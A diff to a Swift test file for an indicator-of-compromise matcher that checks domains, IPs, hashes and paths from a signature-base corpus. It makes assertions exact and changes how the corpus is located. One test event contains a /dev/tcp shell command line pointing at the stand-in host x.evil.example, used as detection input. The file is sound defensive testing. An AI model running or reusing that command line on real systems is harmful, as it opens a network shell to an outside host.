@@ -11,7 +11,9 @@ private let repoRoot: String = {
     return url.path
 }()
 
-private let signatureBaseIOCs = "/work/shared/corpora/signature-base/iocs"
+/// ../shared/corpora/signature-base/iocs beside the repository (found from this file's path).
+private let signatureBaseIOCs = URL(fileURLWithPath: repoRoot).deletingLastPathComponent()
+    .appendingPathComponent("shared/corpora/signature-base/iocs").path
 
 private func makeDir(_ files: [String: String]) throws -> String {
     let dir = FileManager.default.temporaryDirectory.appendingPathComponent("ioc-test-\(UUID().uuidString)").path
@@ -249,9 +251,9 @@ private func build(_ body: (inout IOCSetBuilder) throws -> Void) rethrows -> IOC
         #expect(!t4.contains { $0.hasPrefix("/") })
     }
 
-    @Test func devTcpHostIsFound() {
+    @Test func devTcpHostIsFound() throws {
         // /dev/tcp/HOST/PORT: the host is a path component, so it is looked for there too.
-        let set = (try? build { b in try b.addDomain("evil.example") }) ?? IOCSet()
+        let set = try build { b in try b.addDomain("evil.example") }
         let ev = Event(logsource: LogSource(product: "linux", category: "process_creation"),
                        fields: [("CommandLine", "bash -c 'exec 5<>/dev/tcp/x.evil.example/443'")])
         #expect(set.match(event: ev).map(\.indicator) == ["evil.example"])
@@ -406,33 +408,35 @@ private func build(_ body: (inout IOCSetBuilder) throws -> Void) rethrows -> IOC
         #expect(r.set.counts.ips == 3)
         #expect(r.set.counts.hashes == 3)
         #expect(r.set.counts.paths == 4)
-        #expect(r.set.matchDomain("x.c2.example.net") != nil)
+        #expect(r.set.matchDomain("x.c2.example.net")?.indicator == "c2.example.net")
+        #expect(r.set.matchDomain("x.c2.example.net")?.label == "Example C2 domain")
         #expect(r.set.matchIP("203.0.113.200")?.indicator == "203.0.113.0/24")
     }
 
-    @Test(.enabled(if: FileManager.default.fileExists(atPath: signatureBaseIOCs)))
-    func signatureBaseListsLoad() {
+    @Test func signatureBaseListsLoad() throws {
+        try #require(FileManager.default.fileExists(atPath: signatureBaseIOCs), "signature-base corpus missing at \(signatureBaseIOCs)")
         let r = IOCSet.load(directory: signatureBaseIOCs)
         let c = r.set.counts
         print("signature-base IOCs: \(c), \(r.diagnostics.count) rejected lines")
         for d in r.diagnostics.prefix(20) { print("  \(d)") }
+        // The corpus is a fixed, read-only copy: its counts are exact.
         #expect(r.files.count == 3)
-        #expect(c.domains > 500)
-        #expect(c.ips > 100)
-        #expect(c.hashes > 3000)
-        #expect(c.paths > 3500)
-        // Rejected lines must stay a small fraction.
-        #expect(r.diagnostics.count < 50)
+        #expect(c.domains == 1655)
+        #expect(c.ips == 118)
+        #expect(c.hashes == 3053)
+        #expect(c.paths == 3828)
+        #expect(r.diagnostics.isEmpty, "\(r.diagnostics.prefix(5))")
         // A known entry from each list.
         #expect(r.set.matchDomain("www.suroot.com")?.indicator == "suroot.com")
-        #expect(r.set.matchIP("58.64.143.244") != nil)
+        #expect(r.set.matchIP("58.64.143.244")?.indicator == "58.64.143.244")
+        #expect(r.set.matchIP("58.64.143.245") == nil)
         #expect(r.set.matchHash("ce583821191345274cd954b2db7da9742c239fe413fc17dcb97ffdd7b51cb072")?.label == "Dark Caracal - MS Windows HtmlHelp Data")
         #expect(!r.set.matchPath(#"C:\Windows\System32\drivers\usbclass.sys"#).isEmpty)
     }
 
     /// The prefilters never change the answer: compare with every pattern run one by one.
-    @Test(.enabled(if: FileManager.default.fileExists(atPath: signatureBaseIOCs)))
-    func prefilteredPathMatchingEqualsBruteForce() throws {
+    @Test func prefilteredPathMatchingEqualsBruteForce() throws {
+        try #require(FileManager.default.fileExists(atPath: signatureBaseIOCs), "signature-base corpus missing at \(signatureBaseIOCs)")
         let set = IOCSet.load(directory: signatureBaseIOCs).set
         let entries = set.paths.entries
         var paths = ["/usr/bin/bash", "/tmp/x.sh", #"C:\Windows\System32\svchost.exe"#, "/dev/shm/kworker", ""]
